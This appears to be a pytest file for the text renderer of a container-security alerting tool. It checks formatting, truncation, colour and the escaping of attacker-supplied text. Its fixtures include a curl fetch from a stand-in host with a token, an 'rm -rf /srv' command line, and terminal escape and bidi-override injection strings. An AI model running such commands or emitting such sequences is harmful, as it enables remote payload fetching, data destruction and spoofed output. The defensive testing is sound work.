"""Proves what people read: the golden texts, and the promises behind them."""

import re

import msgspec
import pytest
from sample_alerts import behaviour, docker_alert, hostile_alert, kubernetes_alert, suspicious_alert, withdrawn_alert
from sample_incidents import INCIDENTS, docker_incident, pods_incident, vast_incident
from sample_outputs import ALERTS, containers, golden, samples, summaries

from tidewaiter.alert import Alert, ImageIdentity, TrustShown
from tidewaiter.sinks.text import encode, render, render_containers, render_growth

SGR = re.compile(r"\x1b\[[0-9;]*m")


def changed(**fields: object) -> Alert:
    """The Docker alert with other fields."""
    alert: Alert = msgspec.structs.replace(docker_alert(), **fields)
    return alert


class TestGolden:
    """UPDATE_GOLDEN=1 rewrites the files."""

    @pytest.mark.parametrize("width", [80, 120])
    def test_alerts(self, width: int) -> None:
        golden(f"alerts-{width}.txt", "".join(f"{render(make(), width=width)}\n" for make in ALERTS.values()))

    @pytest.mark.parametrize("width", [80, 120])
    def test_incidents(self, width: int) -> None:
        golden(f"incidents-{width}.txt", "".join(f"{render(make(), width=width)}\n" for make in INCIDENTS.values()))

    def test_alerts_in_colour(self) -> None:
        golden("alerts-color.txt", "".join(f"{render(make(), width=100, color=True)}\n" for make in ALERTS.values()))

    @pytest.mark.parametrize("width", [80, 120])
    def test_containers(self, width: int) -> None:
        golden(f"containers-{width}.txt", render_containers(containers(), width=width) + "\n")

    def test_summaries(self) -> None:
        golden("summaries-80.txt", "".join(f"{render(summary, width=80)}\n" for summary in summaries().values()))


class TestAlert:
    def test_headline_says_verdict_severity_confidence_and_title(self) -> None:
        line = render(docker_alert(), width=200).splitlines()[0]
        assert line == (
            "ALERT high (high confidence) Untrusted image evil.example/x:latest ran "
            "/usr/bin/curl -fsSL http://203.0.113.7/x --token ***"
        )

    def test_reasons_already_told_are_not_told_again(self) -> None:
        """The trust line and the timeline have said them."""
        assert "Why" not in render(docker_alert())
        text = render(kubernetes_alert())
        assert text.count("exposed: privileged") == 1
        assert "untrusted by rule squatters" in text
        assert "suspicious_binary: sh -c" not in text

    def test_reason_of_a_behaviour_left_out_is_told(self) -> None:
        """What the timeline has no room for is not lost."""
        many = [behaviour(n, f"curl {n}") for n in range(30)]
        alert = changed(behaviours=tuple(many), reasons=("suspicious_binary: curl 29 (strong)",))
        text = render(alert)
        assert "and 6 other behaviours, 6 of them strong" in text
        assert "- suspicious_binary: curl 29 (strong)" in text

    def test_behaviours_that_were_not_kept_are_counted(self) -> None:
        assert "and 1,204 more, counted but not kept" in render(kubernetes_alert())

    def test_unknown_facts_have_no_line(self) -> None:
        text = render(docker_alert())
        assert not re.search(r"^  (pod|created by|pulled by) ", text, re.M)

    def test_everything_unknown_is_survived(self) -> None:
        alert = changed(
            node=None,
            container_id=None,
            container_name=None,
            image=ImageIdentity(),
            trust=TrustShown("unknown", "no-origin", ()),
            evidence=(),
            behaviours=(),
            reasons=(),
            missing=(),
        )
        text = render(alert)
        assert "(id not known)" in text
        assert "(no reference known), config digest not known" in text
        assert "Timeline" not in text

    def test_digests_are_short_but_command_lines_are_whole(self) -> None:
        digest = "sha256:" + "ab" * 32
        run = behaviour(1, f"crane pull x@{digest}")
        text = render(changed(title=f"x@{digest}", behaviours=(run,), missing=(f"no {digest}",)), width=300)
        assert text.count(digest) == 1
        assert "no sha256:abababababab.." in text

    def test_long_command_line_keeps_its_end(self) -> None:
        long = behaviour(1, "sh -c " + "true; " * 2000 + "rm -rf /srv")
        text = render(changed(behaviours=(long,)))
        assert "[+11,5" in text
        assert "rm -rf /srv" in text
        assert len(text) < 4000

    def test_suspicious_is_shorter(self) -> None:
        alert = docker_alert()
        brief = msgspec.structs.replace(alert, verdict="suspicious")
        assert len(render(brief).splitlines()) < len(render(alert).splitlines())
        assert "not seen    image config; who" in render(brief)

    def test_suspicious_has_its_reasons(self) -> None:
        assert "late: the strong behaviour is outside the window" in render(suspicious_alert(), width=200)

    def test_withdrawn_says_so_and_names_no_severity(self) -> None:
        first = render(withdrawn_alert()).splitlines()[0]
        assert first.startswith("WITHDRAWN this record no longer holds")
        assert "1970" not in render(withdrawn_alert())

    def test_revision_that_may_change_says_so(self) -> None:
        assert "revision 3, not final" in render(kubernetes_alert())
        assert "revision" not in render(docker_alert())

    def test_ends_with_an_empty_line(self) -> None:
        assert render(docker_alert()).endswith("\n")
        assert encode(docker_alert()).endswith(b"AN0691/T1204.003\n\n")


class TestContainers:
    def test_none_is_nothing(self) -> None:
        assert render_containers([]) == ""

    def test_columns_are_aligned(self) -> None:
        lines = render_containers(containers(), width=200).splitlines()
        at = lines[0].index("CONSISTENCY")
        assert [line[at:].split()[0] for line in lines[1:]] == ["proven", "by_name", "unknown", "conflicting"]

    def test_trust_state_is_never_cut(self) -> None:
        shown = msgspec.structs.replace(
            containers()[0], trust=TrustShown("untrusted", "a-rule-with-a-very-long-name-indeed", ())
        )
        for width in (60, 80, 100, 120, 160):
            assert "untrusted (a" in render_containers([shown], width=width)

    def test_one_container_by_itself_has_no_heading(self) -> None:
        for width in (80, 160):
            text = render(containers()[0], width=width)
            assert "CONTAINER" not in text
            assert text.startswith("3ad7b26ded6d  ")


class TestSummary:
    def test_outcomes_that_did_not_occur_are_not_told(self) -> None:
        text = render(summaries()["complete"])
        assert "7 read: 7 used\n" in text
        assert "evicted" not in text

    def test_nothing_read_is_not_called_complete(self) -> None:
        nothing = msgspec.structs.replace(summaries()["complete"], records=0, outcomes={}, sources={})
        assert "EMPTY: no records were read" in render(nothing)
        assert "complete" not in render(nothing)

    def test_what_was_not_understood_is_in_the_headline(self) -> None:
        complete = summaries()["complete"]
        told = msgspec.structs.replace(complete, outcomes={**complete.outcomes, "rejected": 7})
        assert render(told).startswith("Summary complete, except for 7 unreadable records\n")

    def test_incomplete_is_said_loudly(self) -> None:
        text = render(summaries()["incomplete"], color=True)
        assert "\x1b[1;31mINCOMPLETE" in text
        assert "INCOMPLETE" not in render(summaries()["complete"])

    @pytest.mark.parametrize("name", sorted(summaries()))
    def test_is_four_to_eight_lines(self, name: str) -> None:
        assert 4 <= len(render(summaries()[name], width=100).splitlines()) <= 8

    def test_share_is_never_rounded_up(self) -> None:
        """12 of 900,000 records are missing: that is not 100 %."""
        assert "tetragon 900,000 (99.9% attributed)" in render(summaries()["incomplete"])

    def test_unrecognised_records_have_no_share(self) -> None:
        assert "unrecognised 2\n" in render(summaries()["incomplete"])

    def test_no_source_is_said(self) -> None:
        empty = msgspec.structs.replace(summaries()["complete"], records=0, outcomes={}, sources={})
        assert "none recognised" in render(empty)
        assert "0 read\n" in render(empty)

    def test_outcome_of_a_later_version_is_shown_by_its_name(self) -> None:
        later = msgspec.structs.replace(summaries()["complete"], outcomes={"used": 6, "postponed": 1})
        assert "6 used, 1 postponed" in render(later)


class TestEverything:
    def test_colour_changes_nothing_but_colour(self) -> None:
        for output in samples().values():
            assert SGR.sub("", render(output, color=True)) == render(output)
        assert SGR.sub("", render_containers(containers(), color=True)) == render_containers(containers())

    @pytest.mark.parametrize("color", [False, True])
    def test_hostile_text_reaches_no_terminal(self, color: bool) -> None:
        """Whatever an attacker wrote, the only controls are our line breaks and our colours."""
        text = SGR.sub("", render(hostile_alert(), color=color)) if color else render(hostile_alert())
        assert text.replace("\n", "").isprintable()
        assert r"\x1b]0;owned\x07" in text
        assert r"\u202egpj.exe\u202c" in text

    def test_hostile_alert_adds_no_line_of_its_own(self) -> None:
        assert not re.search(r"^all is well", render(hostile_alert()), re.M)

    def test_bytes_are_utf8(self) -> None:
        for output in samples().values():
            assert encode(output).decode("utf-8") == render(output) + "\n"

    def test_absurd_width_is_survived(self) -> None:
        for output in samples().values():
            assert render(output, width=1) == render(output, width=40)


class TestIncident:
    def test_members_that_find_no_room_are_counted(self) -> None:
        text = render(vast_incident(), width=120)
        assert "1,000 containers on 500 nodes" in text
        assert text.count(" suspicious ") == 12
        assert "and 988 more alerts" in text

    def test_growth_tells_what_is_new_only(self) -> None:
        """The headline says how large it has become; who was told before is not told again."""
        now = pods_incident()
        before = msgspec.structs.replace(now, members=now.members[:15])
        text = render_growth(now, before, width=160)
        assert now.title in text
        assert [member.alert[:12] in text for member in now.members] == [False] * 15 + [True] * 2
        assert "created by" not in text.splitlines()[1]

    def test_one_that_is_none_any_more_says_so(self) -> None:
        assert render(INCIDENTS["withdrawn"]()).startswith(
            "INCIDENT withdrawn No longer an incident: only one of its alerts still stands"
        )
        assert docker_incident().id in render(INCIDENTS["withdrawn"]())
